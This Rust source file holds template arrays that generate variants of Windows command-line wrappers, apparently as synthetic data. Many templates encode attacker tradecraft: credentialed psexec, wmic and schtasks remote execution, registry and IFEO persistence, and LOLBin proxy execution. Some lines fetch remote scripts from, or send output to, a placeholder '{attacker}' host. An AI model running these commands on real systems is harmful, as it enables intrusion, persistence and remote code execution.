//! What cmd.exe and other programs that start a command line are given to run.

/// Around a command for cmd.exe or CreateProcess. The result is one, too.
pub(super) const CMD: &[&str] = &[
    "echo {line} | {shell}« /q¦ /k»",
    r#"{shell} /c "{line} | {shell} /c more""#,
    "«New-Object¦$sh = New-Object» -ComObject WScript.Shell; $sh.Run('{sq}')",
    "{shell} /«c¦c¦c¦C¦k¦r» {line}",
    r#"{shell} /«c¦c¦C¦S /c¦Q /c¦V:ON /c¦d /c» "{line}""#,
    "{shell} /c «start /b ¦start /min ¦@echo off & ¦cd {dir} && ¦timeout 5 & ¦echo {stem} & »{line}",
    "{shell} /c {line}« > {outfile} 2>&1¦ & exit¦ & pause»",
    r"{psexec} ⟦«\\{host}»¦«-u {user} -p {password}»¦«-s»¦«-d»¦«-h»¦«-accepteula»¦«-nobanner»⟧ {line}",
    r#"{psexec} \\{host} -s cmd«.exe» /c "{line}""#,
    r#"wmic« /node:{host}»« /user:{user} /password:{password}» process call create "{dq}""#,
    r#"wmic /node:"{host}" process call create "cmd.exe /c {dq}""#,
    concat!(
        r#"schtasks« /s {host}»« » /create ⟦/tn «"{stem}"¦{stem}»¦/tr "{dq}"¦/sc «once /st {10..23}:{10..59}¦"#,
        r#"onstart¦daily¦onlogon»¦«/ru «SYSTEM¦"NT AUTHORITY\SYSTEM"»»¦«/f»⟧"#
    ),
    concat!(
        r#"sc« \\{host}» create {stem} binpath= "«cmd /c ¦%COMSPEC% /c ¦»{dq}"« type= own»« start= «demand¦"#,
        "auto»»"
    ),
    r#"sc \\{host} config {svcname} binpath= "{dq}" && sc \\{host} start {svcname}"#,
    r#"at« \\{host}» {10..23}:{10..59} «"{dq}"¦cmd /c {line}»"#,
    r#"winrs« -r:{host}»« -u:{user} -p:{password}» «"{line}"¦{line}¦cmd /c {line}»"#,
    r#"runas /«user:{user}¦savecred /user:administrator» "{dq}""#,
    r#"forfiles /p c:\windows\system32 /m «notepad.exe¦cmd.exe» /c "«cmd /c ¦»{dq}""#,
    r#"start« /b¦ /wait¦ /min» «""»{line}"#,
    r#"{psexe} {psflags} «-c¦-Command¦-command¦»«"{dq}"¦{line}¦"& {{line}}"»"#,
    "{psexe} {psflags} «-enc¦-e¦-EncodedCommand¦-ec¦-encodedcommand¦/enc» {enc}",
    "{psexe} {psflags} Start-Process cmd -ArgumentList '/c {sq}'« -Verb RunAs»",
    r"cmd.exe /Q /c {line} 1> \\127.0.0.1\ADMIN$\__{digit10}.{digit4} 2>&1",
    concat!(
        r"%COMSPEC% /Q /c echo {line} ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% ",
        r"/Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat"
    ),
    r"cmd.exe /C {line} > C:\Windows\Temp\{alnum8}.tmp 2>&1",
    r"echo {line} > {dir.1}\{stem.1}.bat && {dir.1}\{stem.1}.bat",
    "@echo off⏎{raw}⏎«exit /b 0¦pause¦goto :eof»",
    "{line}« 2>nul¦ >nul 2>&1¦ > nul¦ 2>&1¦ >> {outfile}¦ | more¦ | clip¦ || echo failed¦ && echo ok»",
    r#"ssh {user}@{host} "{dq}""#,
    r#"mshta vbscript:CreateObject("WScript.Shell").Run("{dd}",0)(window.close)"#,
    r#"CreateObject("WScript.Shell").Run "{dd}", 0, True"#,
    r#"Process.Start("cmd.exe", "/c {dq}");"#,
    r#"«os.system("{dq}")¦subprocess.run(r'{line}', shell=True)¦subprocess.Popen("{dq}", shell=True)»"#,
    r#"«system("{dq}");¦WinExec("{dq}", SW_HIDE);¦ShellExecute(0, "open", "cmd.exe", "/c {dq}", 0, 0);»"#,
    "EXEC «master..¦»xp_cmdshell '{sq}'«;»",
    concat!(
        "«conhost.exe¦pcalua.exe -a¦explorer.exe¦scriptrunner.exe -appvscript¦nsudo -U:S¦gsudo¦RunAsTI¦",
        "hidec.exe» {line}"
    ),
    r#"reg add «HKCU¦HKLM»\Software\Microsoft\Windows\CurrentVersion\Run« /f» /v {stem} /d "{dq}""#,
    "«- name: {stem}⏎  »win_«shell¦command»: {line}",
    "STRING {line}⏎ENTER",
    "msiexec & {line}",
    r#"C:\Windows\{sys32}\cmd.exe /c "{line}""#,
];

pub(super) const CMD_MORE: &[&str] = &[
    "{shell} /c {line}",
    r#"{shell} /c "{line}""#,
    "{shell} /«c¦C» {line}",
    "{shell} /Q /c {line}",
    r#"{shell} /«q¦Q» /c «"{line}"¦{line}»« 1> \\127.0.0.1\«ADMIN$¦C$»\__{digit10}.{digit7} 2>&1»"#,
    r#"{shell} /«v:on¦V:ON¦v¦e:on /v:on¦v:on /q» /c "{line}""#,
    r#"{shell} /s /«c¦k» "{line}""#,
    "{shell} /«c¦k» ({line})",
    r#"{shell} /c "{line} «< nul¦>nul 2>&1¦2>nul¦> {outfile}¦& echo %errorlevel%»""#,
    "{shell} /c call {line}",
    "«@»call {line}",
    r#"{shell} /c start «""¦"{stem}"» /«b¦min¦high¦wait» {line}"#,
    "{shell} /c {shell} /c {line}",
    r#"{shell} /c "{shell} /c "{line}"""#,
    r#"{shell} /d /s /c "{line}""#,
    concat!(
        "{shell} /c chcp «437¦65001¦850» «>nul ¦»& {line} 1> ",
        r"C:\Users\{first}\AppData\Local\Temp\{guid}.txt 2>&1"
    ),
    r"cmd.exe /Q /c {line} 1> \\127.0.0.1\ADMIN$\__{digit10}.{digit5} 2>&1",
    r"cmd.exe /Q /c {line} 1> \\{ip}\{share}\{alnum8} 2>&1",
    r"cmd.exe /C {line} > «%windir%¦C:\Windows¦%SYSTEMROOT%»\Temp\{alnum8}.tmp 2>&1",
    concat!(
        r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__{digit10}.{digit4} 2>&1⏎cmd.exe /Q /c {line} 1> ",
        r"\\127.0.0.1\ADMIN$\__{digit10}.{digit4} 2>&1"
    ),
    concat!(
        r"%COMSPEC% /Q /c echo {line} ^> \\%COMPUTERNAME%\C$\__output_{alnum8} 2^>^&1 > ",
        r"%SYSTEMROOT%\{alnum8}.bat & %COMSPEC% /Q /c %SYSTEMROOT%\{alnum8}.bat & del ",
        r"%SYSTEMROOT%\{alnum8}.bat"
    ),
    r"C:\Windows\system32\cmd.exe /b /c start /b /min {line}",
    r"cmd.exe /Q /c {line} 1> \Windows\Temp\{alnum6} 2>&1",
    r"cmd.exe /c echo {alnum6} > \\.\pipe\{alnum6} & {line}",
    r#"cmd /c for /f "delims=" %i in ('{line}') do @echo %i"#,
    r#"for /f "tokens=*" %a in ('{line}') do echo %a« >> {outfile}»"#,
    "conhost.exe «--headless ¦»«cmd /c ¦»{line}",
    "conhost «{line}¦cmd.exe /c {line}»",
    r#"forfiles /p c:\windows\system32 /m «calc.exe¦notepad.exe¦ping.exe¦{stem}.exe» /c "cmd /c {dq}""#,
    r#"forfiles /s /m *.«txt¦log» /c "cmd /c {dq}""#,
    r#"pcalua.exe -a cmd.exe -c "/c {dq}""#,
    "wsl.exe «--exec ¦-e ¦-- »cmd.exe /c {line}",
    r#"bash.exe -c "cmd.exe /c {dq}""#,
    r#"ssh.exe -o ProxyCommand="{dq}" ."#,
    "rundll32.exe shell32.dll,ShellExec_RunDLL cmd.exe /c {line}",
    concat!(
        r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication "#,
        r#"";document.write();new%20ActiveXObject("WScript.Shell").Run("{json}",0)"#
    ),
    r#"mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""{dd}"", 0:close")"#,
    r#"mshta.exe "javascript:var s=new ActiveXObject('WScript.Shell');s.Run('{sq}',0);close();""#,
    r#"wscript.shell: Run "{dd}""#,
    "Win+R: {line}",
    "Run dialog: «cmd /k ¦»{line}",
    r#"powershell«.exe» "{line}""#,
    r#"powershell -nop -c "cmd /c '{sq}'""#,
    "powershell Start-Process «-WindowStyle hidden ¦-Verb runas »cmd -ArgumentList '/c','{sq}'",
    r#"powershell -c "Start-Process -FilePath cmd.exe -ArgumentList '/c {sq}' -Wait -NoNewWindow""#,
    concat!(
        "powershell (New-Object -ComObject Shell.Application).ShellExecute('cmd.exe','/c ",
        "{sq}','','runas',0)"
    ),
    r#"pwsh -c "& cmd /c \"{dq}\"""#,
    concat!(
        r#"schtasks /create /tn {stem.1} /tr "cmd /c {dq}" /sc «once /st 00:00¦onlogon¦onstart¦minute /mo "#,
        r#"{5..60}» /ru «SYSTEM¦"SYSTEM"¦{user}» /f && schtasks /run /tn {stem.1}« && schtasks /delete /tn "#,
        "{stem.1} /f»"
    ),
    r#"schtasks.exe /Create /F /RU "NT AUTHORITY\SYSTEM" /SC ONEVENT /EC Security /TN {stem} /TR "{dq}""#,
    r#"schtasks /change /tn "\Microsoft\Windows\{stem}" /tr "{dq}""#,
    r#"SCHTASKS /CREATE /S {host} /RU SYSTEM /TN {alnum8} /TR "{dq}" /SC ONCE /ST {10..23}:{10..59}"#,
    concat!(
        r#"sc.exe create {alnum5.1} binPath= "cmd.exe /c {dq}" && sc.exe start {alnum5.1}« && sc.exe "#,
        "delete {alnum5.1}»"
    ),
    r#"sc failure {svcname} command= "{dq}" reset= 0 actions= run/1000"#,
    concat!(
        r#"sc create {stem} binpath= "%COMSPEC% /Q /c {dq}" displayname= "{stem}" start= auto obj= "#,
        "LocalSystem"
    ),
    "New service {stem}: ImagePath = cmd /c {line}",
    concat!(
        r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«sethc¦"#,
        r#"utilman¦osk».exe" /v Debugger /t REG_SZ /d "{dq}" /f"#
    ),
    r#"reg add HKCU\Environment /v UserInitMprLogonScript /d "{dq}" /f"#,
    concat!(
        r#"reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce" /v {stem} /t REG_SZ /d "cmd /c "#,
        r#"{dq}" /f"#
    ),
    concat!(
        r"reg add HKLM\SYSTEM\CurrentControlSet\Services\{alnum6} /v ImagePath /t REG_EXPAND_SZ /d ",
        r#""%COMSPEC% /c {dq}" /f"#
    ),
    r#"echo {line} > "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\{stem}.«bat¦cmd»""#,
    concat!(
        r#"wmic /namespace:"\\root\subscription" path CommandLineEventConsumer create Name="{stem}", "#,
        r#"CommandLineTemplate="{dq}""#
    ),
    concat!(
        r#"wmic«.exe» «/node:{host} ¦/node:"{host}" /user:{user} /password:{password} ¦»process call "#,
        r#"create «"{dq}"¦'{sq}'¦"cmd.exe /c {dq}"¦"cmd /c {dq} > \\{attacker}\{share}\{stem}"»"#
    ),
    r#"wmic process call create "cmd /c {dq}""#,
    r#"wmic os get /format:"http://{attacker}/{stem}.xsl" & {line}"#,
    "nircmd«c».exe exec hide {line}",
    r#"AdvancedRun.exe /EXEFilename "%windir%\system32\cmd.exe" /CommandLine "/c {dq}" /RunAs 4 /Run"#,
    "«NSudoLG.exe¦NSudo.exe» -U:«T¦S» -P:E «-ShowWindowMode:Hide ¦»{line}",
    concat!(
        "«PowerRun.exe¦elevate.exe¦sudo¦psexec -i -s¦SystemInformer -c¦RunFromProcess¦",
        "CreateProcessAsSystem.exe» {line}"
    ),
    r#"runas /netonly /user:{domain}\{user} "{dq}""#,
    r"«paexec.exe¦RemCom.exe¦csexec.exe¦xcmd.exe¦winexe» \\{host} {line}",
    concat!(
        r"psexec \\{host} «-u {domain}\{user} -p {password} ¦-s ¦-i ¦-h -s ¦-accepteula -nobanner -s ",
        "»«cmd /c ¦cmd.exe /c »{line}"
    ),
    r#"PsExec64.exe -accepteula -i -s cmd.exe /c "{line}""#,
    "winrs -r:http«s»://{host}:598«5¦6» -u:{user} -p:{password} {line}",
    "at {10..23}:{10..59} /interactive cmd /c {line}",
    "vssadmin list shadows & {line}",
    concat!(
        r"bitsadmin /create {stem.1} & bitsadmin /addfile {stem.1} {url} {dir}\{stem} & bitsadmin ",
        r#"/SetNotifyCmdLine {stem.1} cmd.exe "/c {dq}" & bitsadmin /resume {stem.1}"#
    ),
    r#"msbuild.exe {stem}.xml /p:cmd="{dq}""#,
    "regsvr32 /s /n /u /i:http://{attacker}/{stem}.sct scrobj.dll & {line}",
    "installutil /logfile= /LogToConsole=false /U {stem}.exe & {line}",
    "hh.exe {stem}.chm & {line}",
    r#"debug: WinExec("{json}", 0)"#,
    r#"new ActiveXObject("WScript.Shell").Run("{json}", 0, true);"#,
    r#"Set s = CreateObject("WScript.Shell"): s.Exec "{dd}""#,
    r#"Shell "cmd /c {dd}", vbHide"#,
    r#"<script>new ActiveXObject("WScript.Shell").Run("{json}");</script>"#,
    r#"<hta:application><script language="vbscript">CreateObject("WScript.Shell").Run "{dd}",0</script>"#,
    "Run(@ComSpec & ' /c {sq}', '', @SW_HIDE)",
    "nsExec::Exec 'cmd /c {sq}'",
    r#"Filename: "cmd.exe"; Parameters: "/c {dd}"; Flags: runhidden"#,
    r#"<Exec Command="{xml}" />"#,
    concat!(
        r#"<CustomAction Id="{stem}" Directory="TARGETDIR" ExeCommand='cmd /c {sq}' Execute="deferred" "#,
        r#"Impersonate="no" />"#
    ),
    concat!(
        r#"var p = new ProcessStartInfo("cmd.exe", "/c {json}") { CreateNoWindow = true }; "#,
        "Process.Start(p);"
    ),
    r#"Process.Start(new ProcessStartInfo { FileName = "cmd.exe", Arguments = @"/c {dd}" });"#,
    r#"Runtime.getRuntime().exec("cmd.exe /c {json}");"#,
    r#"new ProcessBuilder("cmd.exe", "/c", "{json}").start();"#,
    r#"exec.Command("cmd", "/C", "{json}").«Run¦Output»()"#,
    r#"Command::new("cmd").args(["/C", "{json}"]).output()?"#,
    r#"child_process.exec«Sync»("{json}"«, (e, o) => console.log(o)»)"#,
    r#"require('child_process').spawn('cmd.exe', ['/c', "{json}"])"#,
    r#"«shell_exec¦system¦exec¦passthru»("{json}");"#,
    "<?php system('{sq}'); ?>",
    "`{line}` if $^O =~ /MSWin/;",
    "%x({line})",
    concat!(
        "«subprocess.call¦subprocess.check_output¦subprocess.run¦os.popen¦os.system»(«r'{sq}'¦",
        r#""{json}"»«, shell=True»)"#
    ),
    r#"import os; os.system("{json}")"#,
    r#"subprocess.Popen(["cmd.exe", "/c", r"{line}"], stdout=subprocess.PIPE)"#,
    concat!(
        r#"CreateProcessA(NULL, "cmd.exe /c {json}", NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, "#,
        "&pi);"
    ),
    r#"«WinExec¦system¦_popen»("{json}"«, SW_HIDE¦, "r"»);"#,
    "BeaconSpawnTemporaryProcess: cmd.exe /c {line}",
    "EXEC sp_OACreate 'WScript.Shell', @s OUT; EXEC sp_OAMethod @s, 'Run', NULL, '{sq}'",
    "EXEC msdb.dbo.sp_add_jobstep @job_name = N'{stem}', @subsystem = N'CmdExec', @command = N'{sq}'",
    "select sys_exec('{sq}');",
    "COPY {stem} FROM PROGRAM '{sq}';",
    "SELECT * FROM OPENROWSET('SQLNCLI','','EXEC xp_cmdshell ''{line}''')",
    "- win_shell: |⏎    {line}⏎  «become: true¦register: out»",
    "- name: {comment}⏎  ansible.windows.win_command: {line}",
    "exec { '{stem}':⏎  command  => '{sq}',⏎  provider => windows,⏎}",
    "execute '{stem}' do⏎  command '{sq}'⏎end",
    "batch '{stem}' do⏎  code '{sq}'⏎end",
    "{stem}:⏎  cmd.run:⏎    - name: {line}⏎    - shell: cmd",
    "bat '{sq}'",
    "- run: {line}⏎  shell: cmd",
    r#"provisioner "local-exec" { command = "{json}" }"#,
    concat!(
        r#"<GroupPolicy><ScheduledTask command="cmd.exe" arguments="/c {xml}" runAs="NT "#,
        r#"AUTHORITY\System"/></GroupPolicy>"#
    ),
    "<RunSynchronousCommand><Path>cmd /c {xml}</Path></RunSynchronousCommand>",
    "GUI r⏎DELAY {100..900}⏎STRING cmd /c {line}⏎ENTER",
    "DELAY {100..2000}⏎STRING {line}⏎ENTER",
    r#"Keyboard.println("{json}");"#,
    "@echo off⏎>nul 2>&1 net session || (powershell start -verb runas '%~0' & exit /b)⏎{raw}",
    r#"@echo off⏎setlocal⏎cd /d "%~dp0"⏎{raw}⏎endlocal"#,
    "@echo off⏎title {stem}⏎{raw}⏎echo %errorlevel%⏎pause",
    ":run⏎{raw}⏎if errorlevel 1 goto fail⏎exit /b 0⏎:fail⏎exit /b 1",
    "{line} && {line}",
    "{line} ^⏎  2>nul",
    "if exist {dir} ({line}) else (exit /b)",
    "if %errorlevel%==0 {line}",
    "({line}) > {outfile} 2>&1",
    r#"start "" cmd /c "{line} & timeout 3""#,
    r#"{shell} /c "cd /d {dir} & {line}""#,
    r#"{shell} /c "set {alnum3}={stem}& {line}""#,
    "echo Y | {line}",
    "(echo y & echo y) | {line}",
    "timeout /t {1..90} & {line}",
    "{line} & {line}",
    r"cd \ & {line}",
    r"pushd \\{host}\{share} & {line} & popd",
    r"net use \\{host}\IPC$ {password} /user:{user} & {line}",
    "TASKLIST & {line} & exit",
];
